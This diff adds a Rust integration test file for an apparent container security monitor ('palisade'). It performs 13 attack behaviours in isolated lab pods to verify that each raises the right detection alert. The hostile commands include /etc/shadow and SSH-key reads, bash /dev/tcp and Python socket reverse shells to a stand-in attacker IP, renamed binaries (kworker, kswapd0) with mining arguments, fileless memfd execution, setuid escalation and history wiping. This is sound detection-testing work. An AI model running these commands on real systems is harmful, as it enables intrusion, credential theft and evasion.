@@ -1,0 +1,607 @@
+//! Scenario tests (issue 3, "Must show"): each of the 13 behaviours of the default rule pack is
+//! performed for real inside a lab pod while `palisade run` watches, and raises the right rule
+//! alert for the right pod; a benign workload set (a web server, health checks, normal start-up)
+//! raises none.
+//!
+//! Every variant of a behaviour runs in a pod of its own, so "the right pod" is exact and a
+//! quarantine (when a rule's action is `quarantine`) never gets in the way of the next variant.
+//! Assertions use kind, rule id, pod and event fields only, never the outcome.
+//!
+//! `cargo test --test scenario_behaviours -- --ignored record_mix` re-records
+//! testdata/scenarios/recorded-mix.jsonl (benign and attack workloads, sanitized).
+mod support;
+
+use std::io::{Read as _, Write as _};
+use std::net::TcpListener;
+use std::os::fd::AsRawFd as _;
+use std::path::{Path, PathBuf};
+use std::time::{Duration, Instant};
+
+use serde_json::Value;
+use support::daemon::{DaemonGuard, DaemonOptions, PALISADE, python3, run_with_timeout, spawn_logged, system_program};
+use support::require_kernel;
+
+const NS: &str = "scenario";
+/// The attacker's pod: it only listens (reverse shell catcher); it must raise nothing.
+const ATTACKER: &str = "attacker";
+const ATTACKER_IP: &str = "198.18.0.2";
+/// Benign pods.
+const WEB: &str = "web";
+const WEB_IP: &str = "198.18.0.10";
+const CLIENT: &str = "client";
+const CLIENT_IP: &str = "198.18.0.20";
+
+/// What a variant did: ran (with a note for the report), or could not run here (why).
+enum Ran {
+    Ok(String),
+    Skipped(String),
+}
+
+type Action = Box<dyn Fn(&Ctx, &str) -> Ran>;
+
+/// One way of performing one behaviour, in its own pod.
+struct Variant {
+    behaviour: &'static str,
+    pod: &'static str,
+    rule: &'static str,
+    how: &'static str,
+    run: Action,
+    /// Extra condition on the alert (beyond kind, rule id and pod).
+    check: fn(&Value) -> bool,
+}
+
+/// What variants share.
+struct Ctx<'a> {
+    daemon: &'a DaemonGuard,
+    python: Option<PathBuf>,
+    /// A directory below /tmp (for exec_from_tmp), removed at the end.
+    tmp: PathBuf,
+    /// Paths below /etc the write variants create (removed at the end whatever happens).
+    etc_files: Vec<PathBuf>,
+}
+
+impl Ctx<'_> {
+    fn key(pod: &str) -> String {
+        format!("{NS}/{pod}")
+    }
+
+    /// Runs `args` in `pod`; the note says how it went.
+    fn run(&self, pod: &str, args: &[&str]) -> Ran {
+        let out = self.daemon.exec_in(&Self::key(pod), args);
+        Ran::Ok(summary(&out))
+    }
+
+    fn run_env(&self, pod: &str, env: &[(&str, &Path)], args: &[&str]) -> Ran {
+        let mut command = self.daemon.command_in(&Self::key(pod), args[0]);
+        command.args(&args[1..]);
+        for (k, v) in env {
+            command.env(k, v);
+        }
+        Ran::Ok(summary(&run_with_timeout(command, Duration::from_secs(30))))
+    }
+
+    fn python(&self, pod: &str, code: &str) -> Ran {
+        match &self.python {
+            Some(py) => self.run(pod, &[&py.to_string_lossy(), "-c", code]),
+            None => Ran::Skipped("no python3 on this machine".into()),
+        }
+    }
+
+    /// A copy of a system program under a new name, in the scratch bin directory.
+    fn renamed(&self, program: &str, name: &str) -> Option<PathBuf> {
+        let src = system_program(program)?;
+        let dir = self.daemon.scratch.join("bin");
+        std::fs::create_dir_all(&dir).ok()?;
+        let dst = dir.join(name);
+        if !dst.exists() {
+            std::fs::copy(&src, &dst).ok()?;
+        }
+        Some(dst)
+    }
+
+    /// A home directory for `pod` with a shell history in it.
+    fn home_with_history(&self, pod: &str) -> PathBuf {
+        let home = self.daemon.scratch.join(format!("home-{pod}"));
+        std::fs::create_dir_all(&home).expect("home");
+        std::fs::write(home.join(".bash_history"), "ls\ncat /etc/shadow\n").expect("history");
+        home
+    }
+
+    /// Runs a shell in `pod` whose stdio is a TCP connection to a listener in the attacker pod
+    /// (`port`), started with `args` (`{ip}`/`{port}` replaced); the listener sends a command
+    /// and reports what came back.
+    fn reverse_shell(&self, pod: &str, port: u16, args: &[&str]) -> Ran {
+        let listener = listen_in_pod(self.daemon, &Ctx::key(ATTACKER), &format!("{ATTACKER_IP}:{port}"));
+        let catcher = std::thread::spawn(move || catch_shell(listener));
+        let args: Vec<String> =
+            args.iter().map(|a| a.replace("{ip}", ATTACKER_IP).replace("{port}", &port.to_string())).collect();
+        let refs: Vec<&str> = args.iter().map(String::as_str).collect();
+        let mut command = self.daemon.command_in(&Ctx::key(pod), refs[0]);
+        command.args(&refs[1..]);
+        let out = run_with_timeout(command, Duration::from_secs(15));
+        let transcript = catcher.join().unwrap_or_else(|_| "listener panicked".into());
+        Ran::Ok(format!("{}; listener got {:?}", summary(&out), transcript.trim()))
+    }
+}
+
+fn summary(out: &std::process::Output) -> String {
+    let err = String::from_utf8_lossy(&out.stderr);
+    let err = err.trim();
+    if err.is_empty() {
+        format!("exit {}", out.status.code().map_or("signal".into(), |c| c.to_string()))
+    } else {
+        format!("exit {} ({})", out.status.code().map_or("signal".into(), |c| c.to_string()), err.lines().last().unwrap_or(""))
+    }
+}
+
+/// A TCP listener inside a pod's network namespace (bound from a thread that entered it).
+fn listen_in_pod(daemon: &DaemonGuard, pod: &str, addr: &str) -> TcpListener {
+    let netns = daemon.lab().pod_netns_path(pod).expect("attacker netns");
+    let addr = addr.to_string();
+    std::thread::spawn(move || {
+        let ns = std::fs::File::open(&netns).expect("open netns");
+        // SAFETY: setns on this short-lived thread only; the socket keeps the namespace.
+        let rc = unsafe { libc::setns(ns.as_raw_fd(), libc::CLONE_NEWNET) };
+        assert_eq!(rc, 0, "setns into {}: {}", netns.display(), std::io::Error::last_os_error());
+        TcpListener::bind(&addr).unwrap_or_else(|e| panic!("listen on {addr} in the attacker pod: {e}"))
+    })
+    .join()
+    .expect("listener thread")
+}
+
+/// Accepts one connection (10 s), sends a command, reads the answer (5 s).
+fn catch_shell(listener: TcpListener) -> String {
+    listener.set_nonblocking(true).ok();
+    let deadline = Instant::now() + Duration::from_secs(10);
+    let mut stream = loop {
+        match listener.accept() {
+            Ok((s, _)) => break s,
+            Err(_) if Instant::now() < deadline => std::thread::sleep(Duration::from_millis(20)),
+            Err(_) => return "no connection".into(),
+        }
+    };
+    stream.set_nonblocking(false).ok();
+    stream.set_read_timeout(Some(Duration::from_secs(5))).ok();
+    let _ = stream.write_all(b"echo palisade-$((6*7)); exit\n");
+    let mut buf = Vec::new();
+    let _ = stream.read_to_end(&mut buf);
+    let text = String::from_utf8_lossy(&buf).to_string();
+    if text.contains("palisade-42") { "the shell answered".into() } else { format!("no answer ({} bytes)", buf.len()) }
+}
+
+fn any(_: &Value) -> bool {
+    true
+}
+
+/// Every behaviour, each in as many real forms as this machine allows.
+fn variants() -> Vec<Variant> {
+    fn v(behaviour: &'static str, pod: &'static str, rule: &'static str, how: &'static str, run: Action) -> Variant {
+        Variant { behaviour, pod, rule, how, run, check: any }
+    }
+    let mut list = vec![
+        // 1
+        v("1 shell", "shell-bash-i", "shell_in_container", "bash -i", Box::new(|c, pod| c.run(pod, &["bash", "--norc", "--noprofile", "-i", "-c", "true"]))),
+        v("1 shell", "shell-sh-i", "shell_in_container", "sh -i", Box::new(|c, pod| c.run(pod, &["sh", "-i", "-c", "true"]))),
+        // 2
+        v("2 credentials", "creds-cat", "credential_read", "cat /etc/shadow", Box::new(|c, pod| c.run(pod, &["cat", "/etc/shadow"]))),
+        v("2 credentials", "creds-python", "credential_read", "python3 reads /etc/shadow", Box::new(|c, pod| c.python(pod, "open('/etc/shadow').read()"))),
+        v("2 credentials", "creds-renamed", "credential_read", "cat renamed logview reads /etc/shadow (renamed binary)", Box::new(|c, pod| {
+            match c.renamed("cat", "logview") {
+                Some(bin) => c.run(pod, &[&bin.to_string_lossy(), "/etc/shadow"]),
+                None => Ran::Skipped("no cat to copy".into()),
+            }
+        })),
+        v("2 credentials", "creds-sshkey", "credential_read", "cat ~/.ssh/id_ed25519", Box::new(|c, pod| {
+            let ssh = c.daemon.scratch.join("home-sshkey/.ssh");
+            std::fs::create_dir_all(&ssh).expect("ssh dir");
+            std::fs::write(ssh.join("id_ed25519"), "-----BEGIN OPENSSH PRIVATE KEY-----\nnot a key\n").expect("key");
+            c.run(pod, &["cat", &ssh.join("id_ed25519").to_string_lossy()])
+        })),
+        // 3
+        v("3 system dir write", "etc-sh", "write_below_system_dir", "sh writes and removes a file below /etc", Box::new(|c, pod| {
+            let path = c.etc_files[0].to_string_lossy().to_string();
+            c.run(pod, &["sh", "-c", &format!("echo palisade > {path} && rm -f {path}")])
+        })),
+        v("3 system dir write", "etc-python", "write_below_system_dir", "python3 writes a file below /etc", Box::new(|c, pod| {
+            let path = c.etc_files[1].to_string_lossy().to_string();
+            c.python(pod, &format!("import os; open({path:?}, 'w').write('x'); os.unlink({path:?})"))
+        })),
+        // 4
+        v("4 package manager", "pkg-apt", "package_manager", "apt-get -s install (simulation)", Box::new(|c, pod| {
+            if system_program("apt-get").is_none() {
+                return Ran::Skipped("no apt-get".into());
+            }
+            c.run(pod, &["apt-get", "-s", "-o", "Debug::NoLocking=1", "install", "palisade-no-such-package"])
+        })),
+        v("4 package manager", "pkg-db", "package_manager", "python3 opens the dpkg database lock for writing (behaviour, no package manager name)", Box::new(|c, pod| {
+            if !Path::new("/var/lib/dpkg/lock").exists() {
+                return Ran::Skipped("no /var/lib/dpkg/lock".into());
+            }
+            c.python(pod, "import os; os.close(os.open('/var/lib/dpkg/lock', os.O_WRONLY))")
+        })),
+        // 5
+        v("5 recon", "recon-nmap", "network_recon", "a program named nmap with scan arguments (name-based rule)", Box::new(|c, pod| {
+            match c.renamed("true", "nmap") {
+                Some(bin) => c.run(pod, &[&bin.to_string_lossy(), "-sT", "-p", "1-1024", ATTACKER_IP]),
+                None => Ran::Skipped("no true to copy".into()),
+            }
+        })),
+        v("5 recon", "recon-renamed", "network_recon", "a renamed scanner shows by its arguments", Box::new(|c, pod| {
+            match c.renamed("true", "healthcheck") {
+                Some(bin) => c.run(pod, &[&bin.to_string_lossy(), "-sS", "-Pn", "-p-", "198.18.0.0/24"]),
+                None => Ran::Skipped("no true to copy".into()),
+            }
+        })),
+        // 6
+        v("6 exec from tmp", "tmp-exec", "exec_from_tmp", "a program copied into /tmp and run", Box::new(|c, pod| {
+            let payload = c.tmp.join("payload");
+            std::fs::copy(system_program("true").expect("true"), &payload).expect("copy payload");
+            c.run(pod, &[&payload.to_string_lossy()])
+        })),
+        // 7
+        v("7 fileless", "memfd-workload", "fileless_exec", "memfd_create + execveat(AT_EMPTY_PATH)", Box::new(|c, pod| c.run(pod, &[PALISADE, "workload", "memfd-exec"]))),
+        v("7 fileless", "memfd-python", "fileless_exec", "python3 memfd_create + execv /proc/self/fd/N", Box::new(|c, pod| {
+            c.python(pod, "import os; fd = os.memfd_create('x'); os.write(fd, open('/bin/true', 'rb').read()); os.execv(f'/proc/self/fd/{fd}', ['x'])")
+        })),
+        // 8
+        v("8 ptrace", "ptrace-workload", "ptrace_attach", "PTRACE_ATTACH to a child", Box::new(|c, pod| c.run(pod, &[PALISADE, "workload", "ptrace"]))),
+        v("8 ptrace", "ptrace-strace", "ptrace_attach", "strace", Box::new(|c, pod| {
+            if system_program("strace").is_none() {
+                return Ran::Skipped("no strace".into());
+            }
+            c.run(pod, &["strace", "-f", "-o", "/dev/null", "true"])
+        })),
+        // 9
+        Variant {
+            behaviour: "9 privilege escalation",
+            pod: "setuid-python",
+            rule: "setuid_root",
+            how: "uid 65534 with saved uid 0 (a setuid-root program that dropped privileges) calls seteuid(0)",
+            run: Box::new(|c, pod| c.python(pod, "import os; os.setresuid(65534, 65534, 0); os.seteuid(0); assert os.geteuid() == 0")),
+            check: |a| a["event"]["cred"]["args"].as_array().is_some_and(|args| args.first() == Some(&Value::from(4294967295u64)) && args.get(1) == Some(&Value::from(0))),
+        },
+        v("9 privilege escalation", "suid-chmod", "setuid_bit", "chmod u+s", Box::new(|c, pod| {
+            let file = c.daemon.scratch.join("suid-file");
+            std::fs::write(&file, "#!/bin/sh\n").expect("file");
+            c.run(pod, &["chmod", "u+s", &file.to_string_lossy()])
+        })),
+        v("9 privilege escalation", "suid-workload", "setuid_bit", "chmod(04755) syscall", Box::new(|c, pod| {
+            c.run(pod, &[PALISADE, "workload", "chmod-setuid", &c.daemon.scratch.join("suid-file-2").to_string_lossy()])
+        })),
+        // 10
+        v("10 container escape", "escape-mount", "container_escape", "mount a tmpfs (private mount namespace)", Box::new(|c, pod| c.run(pod, &[PALISADE, "workload", "mount"]))),
+        v("10 container escape", "escape-unshare", "container_escape", "unshare -U (util-linux)", Box::new(|c, pod| {
+            if system_program("unshare").is_none() {
+                return Ran::Skipped("no unshare".into());
+            }
+            c.run(pod, &["unshare", "-U", "true"])
+        })),
+        v("10 container escape", "escape-userns", "container_escape", "unshare(CLONE_NEWUSER)", Box::new(|c, pod| c.run(pod, &[PALISADE, "workload", "unshare-user"]))),
+        v("10 container escape", "escape-module", "container_escape", "finit_module", Box::new(|c, pod| c.run(pod, &[PALISADE, "workload", "finit-module"]))),
+        v("10 container escape", "escape-bpf", "container_escape", "bpf(BPF_PROG_LOAD)", Box::new(|c, pod| c.run(pod, &[PALISADE, "workload", "bpf"]))),
+        v("10 container escape", "escape-corepattern", "container_escape", "sh opens core_pattern for writing (writes nothing)", Box::new(|c, pod| {
+            c.run(pod, &["sh", "-c", "exec 3>>/proc/sys/kernel/core_pattern"])
+        })),
+        // 11
+        v("11 reverse shell", "revshell-bash", "reverse_shell", "bash -i on /dev/tcp to the attacker pod", Box::new(|c, pod| {
+            c.reverse_shell(pod, 9001, &["bash", "-c", "exec 3<>/dev/tcp/{ip}/{port}; exec bash --norc --noprofile -i <&3 >&3 2>&3"])
+        })),
+        v("11 reverse shell", "revshell-python", "reverse_shell", "python3 socket + dup2 + sh", Box::new(|c, pod| {
+            let Some(py) = c.python.clone() else { return Ran::Skipped("no python3".into()) };
+            let code = "import socket, os; s = socket.create_connection(('{ip}', {port})); [os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]; os.execv('/bin/sh', ['sh'])";
+            c.reverse_shell(pod, 9002, &[&py.to_string_lossy(), "-c", code])
+        })),
+        Variant {
+            behaviour: "11 reverse shell",
+            pod: "revshell-renamed",
+            rule: "reverse_shell",
+            how: "bash renamed kworker with all streams on the socket (renamed binary)",
+            run: Box::new(|c, pod| match c.renamed("bash", "kworker") {
+                Some(bin) => {
+                    let script = format!("exec 3<>/dev/tcp/{{ip}}/{{port}}; exec {} --norc --noprofile <&3 >&3 2>&3", bin.display());
+                    c.reverse_shell(pod, 9003, &["bash", "-c", &script])
+                }
+                None => Ran::Skipped("no bash to copy".into()),
+            }),
+            check: |a| a["event"]["type"] == "exec" && a["event"]["exec"]["filename"].as_str().is_some_and(|f| f.ends_with("/kworker")),
+        },
+        // 12
+        v("12 crypto mining", "mining-stratum", "crypto_mining", "a renamed program with stratum+tcp:// arguments", Box::new(|c, pod| {
+            match c.renamed("true", "kswapd0") {
+                Some(bin) => c.run(pod, &[&bin.to_string_lossy(), "-o", &format!("stratum+tcp://{ATTACKER_IP}:3333"), "-u", "wallet", "-p", "x"]),
+                None => Ran::Skipped("no true to copy".into()),
+            }
+        })),
+        v("12 crypto mining", "mining-pool-port", "crypto_mining", "bash connects to a pool port (3333)", Box::new(|c, pod| {
+            c.run(pod, &["bash", "-c", &format!("exec 3<>/dev/tcp/{ATTACKER_IP}/3333 || true")])
+        })),
+        // 13
+        v("13 history tampering", "history-truncate", "shell_history_tampering", "sh truncates ~/.bash_history", Box::new(|c, pod| {
+            let home = c.home_with_history(pod);
+            c.run_env(pod, &[("HOME", &home)], &["sh", "-c", ": > \"$HOME/.bash_history\""])
+        })),
+        v("13 history tampering", "history-unlink", "shell_history_tampering", "rm ~/.bash_history", Box::new(|c, pod| {
+            let home = c.home_with_history(pod);
+            c.run_env(pod, &[("HOME", &home)], &["rm", "-f", &home.join(".bash_history").to_string_lossy()])
+        })),
+        v("13 history tampering", "history-rename", "shell_history_tampering", "mv ~/.bash_history away", Box::new(|c, pod| {
+            let home = c.home_with_history(pod);
+            let from = home.join(".bash_history");
+            c.run_env(pod, &[("HOME", &home)], &["mv", &from.to_string_lossy(), &home.join("old").to_string_lossy()])
+        })),
+    ];
+    list.sort_by_key(|v| v.behaviour.split(' ').next().and_then(|n| n.parse::<u32>().ok()).unwrap_or(0));
+    list
+}
+
+/// An inventory of one namespace with the given pods (addresses 198.18.0.x).
+fn inventory(pods: &[(&str, &str)]) -> String {
+    let mut text = format!("namespaces:\n  - name: {NS}\n    labels: {{team: scenario}}\nendpoints:\n");
+    for (name, ip) in pods {
+        text.push_str(&format!(
+            "  - namespace: {NS}\n    name: {name}\n    labels: {{app: {name}}}\n    ips: [{ip}]\n    ports: [{{name: http, port: 8080, protocol: TCP}}]\n"
+        ));
+    }
+    text
+}
+
+fn attack_pods(variants: &[Variant]) -> Vec<(String, String)> {
+    let mut pods = vec![(ATTACKER.to_string(), ATTACKER_IP.to_string())];
+    for (i, v) in variants.iter().enumerate() {
+        pods.push((v.pod.to_string(), format!("198.18.1.{}", 10 + i)));
+    }
+    pods
+}
+
+struct Outcome {
+    behaviour: &'static str,
+    pod: &'static str,
+    rule: &'static str,
+    how: &'static str,
+    note: String,
+    /// None: skipped; Some(alert found)
+    found: Option<bool>,
+}
+
+/// Runs every variant, then waits for each one's alert. Returns one outcome per variant.
+fn run_attacks(daemon: &DaemonGuard, variants: &[Variant]) -> Vec<Outcome> {
+    let tmp = PathBuf::from(format!("/tmp/palisade-{}", daemon.lab_name));
+    std::fs::create_dir_all(&tmp).expect("tmp dir");
+    let etc_files = (1..=2).map(|i| PathBuf::from(format!("/etc/palisade-{}-{i}", daemon.lab_name))).collect();
+    let ctx = Ctx { daemon, python: python3(), tmp, etc_files };
+    let mut outcomes = Vec::new();
+    for v in variants {
+        let ran = (v.run)(&ctx, v.pod);
+        let (note, found) = match ran {
+            Ran::Ok(note) => (note, Some(false)),
+            Ran::Skipped(why) => (format!("SKIPPED: {why}"), None),
+        };
+        outcomes.push(Outcome { behaviour: v.behaviour, pod: v.pod, rule: v.rule, how: v.how, note, found });
+    }
+    let _ = std::fs::remove_dir_all(&ctx.tmp);
+    for path in &ctx.etc_files {
+        let _ = std::fs::remove_file(path);
+    }
+    let deadline = Instant::now() + Duration::from_secs(20);
+    for (outcome, v) in outcomes.iter_mut().zip(variants) {
+        if outcome.found.is_none() {
+            continue;
+        }
+        let left = deadline.saturating_duration_since(Instant::now());
+        let hit = daemon.wait_for_alert(
+            |a| a["kind"] == "rule" && a["rule"]["id"] == v.rule && a["pod"]["namespace"] == NS && a["pod"]["name"] == v.pod && (v.check)(a),
+            left,
+        );
+        outcome.found = Some(hit.is_some());
+    }
+    outcomes
+}
+
+fn report(outcomes: &[Outcome], alerts: &[Value]) -> String {
+    let mut text = String::new();
+    for o in outcomes {
+        let status = match o.found {
+            None => "skip",
+            Some(true) => "ok",
+            Some(false) => "MISSING",
+        };
+        text.push_str(&format!("{status:7} {:24} {:18} {:24} {} [{}]\n", o.behaviour, o.pod, o.rule, o.how, o.note));
+        if o.found == Some(false) {
+            let seen: Vec<String> = alerts
+                .iter()
+                .filter(|a| a["pod"]["name"] == o.pod)
+                .map(|a| format!("{} ({})", a["rule"]["id"].as_str().unwrap_or("?"), a["message"].as_str().unwrap_or("")))
+                .collect();
+            text.push_str(&format!("        alerts for pod {}: {seen:?}\n", o.pod));
+        }
+    }
+    text
+}
+
+#[test]
+fn each_default_behaviour_raises_its_alert_for_the_right_pod() {
+    if !require_kernel("each_default_behaviour_raises_its_alert_for_the_right_pod") {
+        return;
+    }
+    let started = Instant::now();
+    let variants = variants();
+    let pods = attack_pods(&variants);
+    let pod_refs: Vec<(&str, &str)> = pods.iter().map(|(n, i)| (n.as_str(), i.as_str())).collect();
+    let daemon = DaemonGuard::start(DaemonOptions::new("scnbehaviours", &inventory(&pod_refs)));
+    let outcomes = run_attacks(&daemon, &variants);
+    // Late alerts (from events still in flight) count for the pod checks below.
+    std::thread::sleep(Duration::from_millis(500));
+    let alerts = daemon.rule_alerts();
+    let table = report(&outcomes, &alerts);
+    println!("{table}");
+
+    let mut problems = Vec::new();
+    for o in &outcomes {
+        if o.found == Some(false) {
+            problems.push(format!("{} ({}): no {} alert for pod {NS}/{}", o.behaviour, o.how, o.rule, o.pod));
+        }
+    }
+    // Every behaviour is shown by at least one variant that ran.
+    for behaviour in outcomes.iter().map(|o| o.behaviour).collect::<std::collections::BTreeSet<_>>() {
+        if !outcomes.iter().any(|o| o.behaviour == behaviour && o.found == Some(true)) {
+            problems.push(format!("behaviour {behaviour}: no variant ran and alerted"));
+        }
+    }
+    // Alerts name the pod that did it: every rule alert is for one of this lab's pods, and the
+    // attacker pod (which only listened) has none.
+    for a in &alerts {
+        let pod = &a["pod"];
+        if pod["namespace"] != NS || !pods.iter().any(|(n, _)| pod["name"] == n.as_str()) {
+            problems.push(format!("rule alert for an unexpected pod: {a}"));
+        }
+        if pod["name"] == ATTACKER {
+            problems.push(format!("the attacker pod only listened but raised {}: {}", a["rule"]["id"], a["message"]));
+        }
+    }
+    println!("{} variants, {} rule alerts, {:.1} s", outcomes.len(), alerts.len(), started.elapsed().as_secs_f64());
+    assert!(problems.is_empty(), "{}\n\n{table}", problems.join("\n"));
+}
+
+/// The benign workload: an entrypoint script starting a web server, health checks from another
+/// pod and from inside the pod, a client application, a reachability probe.
+fn run_benign(daemon: &DaemonGuard) -> Vec<String> {
+    let mut notes = Vec::new();
+    let web = format!("{NS}/{WEB}");
+    let client = format!("{NS}/{CLIENT}");
+    let app = daemon.scratch.join("app");
+    std::fs::create_dir_all(app.join("www")).expect("app dir");
+    std::fs::create_dir_all(app.join("run")).expect("run dir");
+    std::fs::write(app.join("www/index.html"), "<h1>palisade</h1>\n").expect("index");
+    std::fs::write(app.join("www/healthz"), "ok\n").expect("healthz");
+    let python = python3();
+    let server = match &python {
+        Some(py) => format!("exec {} -m http.server 8080 --bind 0.0.0.0 --directory \"$APP/www\"", py.display()),
+        None => "exec sleep 30".to_string(),
+    };
+    // What an image's entrypoint does: read its config, write a pid file, exec the server.
+    std::fs::write(
+        app.join("entrypoint.sh"),
+        format!(
+            "#!/bin/sh\nset -e\nAPP=\"$(dirname \"$0\")\"\n. \"$APP/app.env\"\ncat /etc/os-release > /dev/null\nmkdir -p \"$APP/run\" \"$APP/log\"\necho $$ > \"$APP/run/server.pid\"\necho \"starting $NAME\" >> \"$APP/log/start.log\"\n{server}\n"
+        ),
+    )
+    .expect("entrypoint");
+    std::fs::write(app.join("app.env"), "NAME=web\nPORT=8080\n").expect("env");
+    let mut command = daemon.command_in(&web, "sh");
+    command.arg(app.join("entrypoint.sh"));
+    let server = spawn_logged(command, &daemon.work.join("web-server.log"));
+
+    // Wait for the server to answer (from the client pod, like a load balancer would).
+    let url = format!("http://{WEB_IP}:8080/healthz");
+    let deadline = Instant::now() + Duration::from_secs(20);
+    let mut up = python.is_none();
+    while !up && Instant::now() < deadline {
+        let out = daemon.exec_in(&client, &["curl", "-fsS", "-m", "2", &url]);
+        up = out.status.success();
+        if !up {
+            std::thread::sleep(Duration::from_millis(200));
+        }
+    }
+    notes.push(format!("web server up: {up}"));
+    if python.is_some() {
+        for _ in 0..3 {
+            let out = daemon.exec_in(&client, &["curl", "-fsS", "-m", "2", &url]);
+            notes.push(format!("curl healthz: {}", summary(&out)));
+            let out = daemon.exec_in(&client, &["wget", "-q", "-T", "2", "-O", "/dev/null", &format!("http://{WEB_IP}:8080/")]);
+            notes.push(format!("wget /: {}", summary(&out)));
+            // A kubelet-style exec probe inside the web pod.
+            let out = daemon.exec_in(&web, &["sh", "-c", &format!("wget -q -T 2 -O /dev/null http://{WEB_IP}:8080/healthz")]);
+            notes.push(format!("exec probe: {}", summary(&out)));
+        }
+        let py = python.as_ref().expect("python").to_string_lossy().to_string();
+        let out = daemon.exec_in(
+            &client,
+            &[&py, "-c", &format!("import urllib.request, json; print(len(urllib.request.urlopen('http://{WEB_IP}:8080/', timeout=2).read()))")],
+        );
+        notes.push(format!("python client: {}", summary(&out)));
+    }
+    // Ordinary commands a workload runs.
+    for args in [&["id"][..], &["ls", "/etc"], &["date"], &["cat", "/etc/hostname"], &["uname", "-a"]] {
+        let out = daemon.exec_in(&client, args);
+        notes.push(format!("{}: {}", args.join(" "), summary(&out)));
+    }
+    // Real packets between every pod on a port nobody listens on yet (the probe's own listeners).
+    let matrix = daemon.lab().probe(9090, palisade::inventory::Protocol::Tcp).expect("lab probe");
+    notes.push(format!("lab probe 9090: all allowed = {}", matrix.all_allowed()));
+    let transcript = server.finish(Duration::from_millis(10));
+    notes.push(format!("server log: {:?}", transcript.lines().take(3).collect::<Vec<_>>()));
+    notes
+}
+
+#[test]
+fn benign_workload_raises_no_rule_alerts() {
+    if !require_kernel("benign_workload_raises_no_rule_alerts") {
+        return;
+    }
+    let started = Instant::now();
+    let inv = inventory(&[(WEB, WEB_IP), (CLIENT, CLIENT_IP)]);
+    let daemon = DaemonGuard::start(DaemonOptions::new("scnbenign", &inv).record());
+    let notes = run_benign(&daemon);
+    println!("{}", notes.join("\n"));
+    // Let in-flight events reach the rules.
+    std::thread::sleep(Duration::from_secs(2));
+    let alerts = daemon.rule_alerts();
+    let record = std::fs::read_to_string(daemon.record_path.as_ref().expect("record")).unwrap_or_default();
+    let events: Vec<Value> = record.lines().filter_map(|l| serde_json::from_str(l).ok()).collect();
+    let web_execs = events.iter().filter(|e| e["type"] == "exec" && e["pod"]["name"] == WEB).count();
+    let client_execs = events.iter().filter(|e| e["type"] == "exec" && e["pod"]["name"] == CLIENT).count();
+    let opens = events.iter().filter(|e| e["type"] == "open").count();
+    println!("{} events recorded ({web_execs} execs in web, {client_execs} in client, {opens} opens), {:.1} s", events.len(), started.elapsed().as_secs_f64());
+    assert!(web_execs >= 2 && client_execs >= 5, "the daemon saw too little of the workload to judge it (web {web_execs}, client {client_execs} execs)");
+    assert!(
+        alerts.is_empty(),
+        "benign workload raised {} rule alerts:\n{}\n\nworkload:\n{}",
+        alerts.len(),
+        alerts.iter().map(|a| format!("{} {}/{}: {}", a["rule"]["id"], a["pod"]["namespace"], a["pod"]["name"], a["message"])).collect::<Vec<_>>().join("\n"),
+        notes.join("\n")
+    );
+}
+
+/// Re-records testdata/scenarios/recorded-mix.jsonl: the benign workload, then every attack
+/// variant, through one daemon with --record; host-specific strings are replaced.
+#[test]
+#[ignore = "re-records testdata/scenarios/recorded-mix.jsonl"]
+fn record_mix() {
+    if !require_kernel("record_mix") {
+        return;
+    }
+    let variants = variants();
+    let mut pods = attack_pods(&variants);
+    pods.push((WEB.into(), WEB_IP.into()));
+    pods.push((CLIENT.into(), CLIENT_IP.into()));
+    let pod_refs: Vec<(&str, &str)> = pods.iter().map(|(n, i)| (n.as_str(), i.as_str())).collect();
+    let daemon = DaemonGuard::start(DaemonOptions::new("scnrecord", &inventory(&pod_refs)).record());
+    run_benign(&daemon);
+    let outcomes = run_attacks(&daemon, &variants);
+    std::thread::sleep(Duration::from_secs(2));
+    let record = std::fs::read_to_string(daemon.record_path.as_ref().expect("record")).expect("record");
+    let node = std::fs::read_to_string("/proc/sys/kernel/hostname").unwrap_or_default().trim().to_string();
+    let work = daemon.work.display().to_string();
+    let mut out = String::new();
+    let mut lines = 0;
+    for line in record.lines() {
+        let mut line = line.replace(&work, "/srv/scenario").replace(PALISADE, "/usr/local/bin/palisade");
+        line = line.replace(&format!("/tmp/palisade-{}", daemon.lab_name), "/tmp/palisade-payload");
+        line = line.replace(&format!("/etc/palisade-{}", daemon.lab_name), "/etc/palisade-test");
+        line = line.replace(&daemon.lab_name, "lab");
+        if !node.is_empty() {
+            line = line.replace(&format!("\"node\":\"{node}\""), "\"node\":\"node-1\"");
+        }
+        // Keep only well-formed events.
+        if serde_json::from_str::<Value>(&line).is_ok() {
+            out.push_str(&line);
+            out.push('\n');
+            lines += 1;
+        }
+    }
+    let dest = support::daemon::repo_root().join("testdata/scenarios/recorded-mix.jsonl");
+    std::fs::create_dir_all(dest.parent().expect("parent")).expect("testdata/scenarios");
+    std::fs::write(&dest, out).expect("write recording");
+    let ok = outcomes.iter().filter(|o| o.found == Some(true)).count();
+    println!("recorded {lines} events to {} ({ok}/{} attack variants alerted)", dest.display(), outcomes.len());
+}
